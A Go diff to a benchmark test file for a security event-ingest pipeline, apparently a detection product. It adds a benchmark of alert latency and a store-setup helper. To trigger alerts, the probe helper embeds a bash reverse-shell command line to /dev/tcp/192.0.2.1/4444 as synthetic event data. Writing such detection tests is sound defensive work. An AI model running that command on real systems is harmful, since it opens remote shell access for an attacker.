@@ -3,11 +3,16 @@ package ingest
 import (
 	"context"
 	"errors"
+	"fmt"
 	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
 	"testing"
 	"time"
 
 	"github.com/holdfast-security/holdfast/event"
+	"github.com/holdfast-security/holdfast/finding"
 	"github.com/holdfast-security/holdfast/internal/cputime"
 	"github.com/holdfast-security/holdfast/internal/telemetrytest"
 	"github.com/holdfast-security/holdfast/store"
@@ -99,19 +104,7 @@ func BenchmarkIngest(b *testing.B) {
 	var cpu time.Duration
 	for range b.N {
 		b.StopTimer()
-		dir := b.TempDir()
-		state, err := sqlstore.Open(b.Context(), sqlstore.Config{Path: filepath.Join(dir, "state.db")})
-		if err != nil {
-			b.Fatal(err)
-		}
-		blobs, err := segment.OpenDirectory(filepath.Join(dir, "segments"))
-		if err != nil {
-			b.Fatal(err)
-		}
-		telemetry, err := segment.Open(b.Context(), blobs, state, segment.Options{})
-		if err != nil {
-			b.Fatal(err)
-		}
+		state, telemetry := openStores(b)
 		ctx, cancel := context.WithCancel(b.Context())
 		b.StartTimer()
 		began := cputime.Used()
@@ -135,9 +128,6 @@ func BenchmarkIngest(b *testing.B) {
 			b.Fatalf("%d of %d events stored; %+v", rows, size*len(messages), p.Status())
 		}
 		alerts += float64(p.Stats().Alerts + p.Stats().Repeats)
-		if err := errors.Join(telemetry.Close(), blobs.Close(), state.Close()); err != nil {
-			b.Fatal(err)
-		}
 		b.StartTimer()
 	}
 	events := float64(b.N * size * len(messages))
@@ -176,4 +166,122 @@ func (c *countTelemetry) Append(_ context.Context, _ event.HostID, events []even
 		c.done()
 	}
 	return nil
+}
+
+// pacedSource plays messages at a steady pace and notes when each came.
+type pacedSource struct {
+	messages []Message
+	gap      time.Duration
+	played   func(Message)
+	done     func()
+}
+
+func (s *pacedSource) Read(ctx context.Context, _ string, from uint64, fn func(Message) error) error {
+	begun := time.Now()
+	for i, m := range s.messages[from-1:] {
+		time.Sleep(time.Until(begun.Add(time.Duration(i) * s.gap)))
+		s.played(m)
+		if err := fn(m); err != nil {
+			return err
+		}
+	}
+	time.AfterFunc(time.Second, s.done)
+	<-ctx.Done()
+	return ctx.Err()
+}
+
+func (s *pacedSource) Purge(context.Context, string, uint64) error { return nil }
+
+// probe returns a frame of a host's own that raises an alert.
+func probe(b *testing.B, n int) Message {
+	b.Helper()
+	now := time.Now()
+	ev := &event.Event{
+		Time: now, Class: event.ClassProcessActivity, Activity: event.ProcessLaunch, Status: event.StatusSuccess,
+		Process: &event.Process{
+			PID: 4242, Name: "bash", Executable: &event.File{Path: "/bin/bash"}, Arguments: []string{"bash", "-i"},
+			CommandLine: "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Started: now, Executed: now,
+		},
+	}
+	data, err := wire.NewEncoder().AppendFrame(nil, wire.Header{Epoch: wire.Epoch{2}, Sequence: 1, First: 1}, []*event.Event{ev})
+	if err != nil {
+		b.Fatal(err)
+	}
+	return Message{Host: event.HostID(fmt.Sprintf("hprobe%010d", n)), Time: now, Frame: data}
+}
+
+// BenchmarkAlertDelay is the time from a frame's coming out of the stream until
+// its alert is saved, while 20,000 events a second are stored: the longest
+// shows what a commit costs.
+func BenchmarkAlertDelay(b *testing.B) {
+	rules, err := LoadRules(nil, nil)
+	if err != nil {
+		b.Fatal(err)
+	}
+	const size, every = 500, 5
+	var messages []Message
+	for i, m := range frames(b, 600, size) {
+		if i%every == 0 {
+			messages = append(messages, probe(b, i))
+		}
+		messages = append(messages, m)
+	}
+	for i := range messages {
+		messages[i].Sequence = uint64(i) + 1
+	}
+	for range b.N {
+		var mu sync.Mutex
+		came, delays := make(map[event.HostID]time.Time), []time.Duration{}
+		ctx, cancel := context.WithCancel(b.Context())
+		state, telemetry := openStores(b)
+		p := New(Config{
+			Partition: "0", State: state, Telemetry: telemetry, Rules: rules,
+			Source: &pacedSource{messages, time.Second * size * every / 20_000 / (every + 1), func(m Message) {
+				mu.Lock()
+				defer mu.Unlock()
+				came[m.Host] = time.Now()
+			}, cancel},
+			Saved: func(alerts []finding.Alert, _ []string) {
+				mu.Lock()
+				defer mu.Unlock()
+				for _, a := range alerts {
+					if strings.HasPrefix(string(a.Host), "hprobe") {
+						delays = append(delays, time.Since(came[a.Host]))
+					}
+				}
+			},
+		})
+		p.Run(ctx)
+		slices.Sort(delays)
+		if len(delays) == 0 {
+			b.Fatal("no alert came")
+		}
+		b.ReportMetric(float64(delays[len(delays)/2].Milliseconds()), "median-ms")
+		b.ReportMetric(float64(delays[len(delays)-1].Milliseconds()), "longest-ms")
+		b.ReportMetric(float64(p.Stats().Commits.Count), "commits")
+	}
+}
+
+// openStores opens stores on disk for as long as the benchmark runs.
+func openStores(b *testing.B) (*sqlstore.Store, *segment.Store) {
+	b.Helper()
+	dir := b.TempDir()
+	state, err := sqlstore.Open(b.Context(), sqlstore.Config{Path: filepath.Join(dir, "state.db")})
+	if err != nil {
+		b.Fatal(err)
+	}
+	blobs, err := segment.OpenDirectory(filepath.Join(dir, "segments"))
+	if err != nil {
+		b.Fatal(err)
+	}
+	telemetry, err := segment.Open(b.Context(), blobs, state, segment.Options{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	b.Cleanup(func() {
+		if err := errors.Join(telemetry.Close(), blobs.Close(), state.Close()); err != nil {
+			b.Error(err)
+		}
+	})
+	return state, telemetry
 }
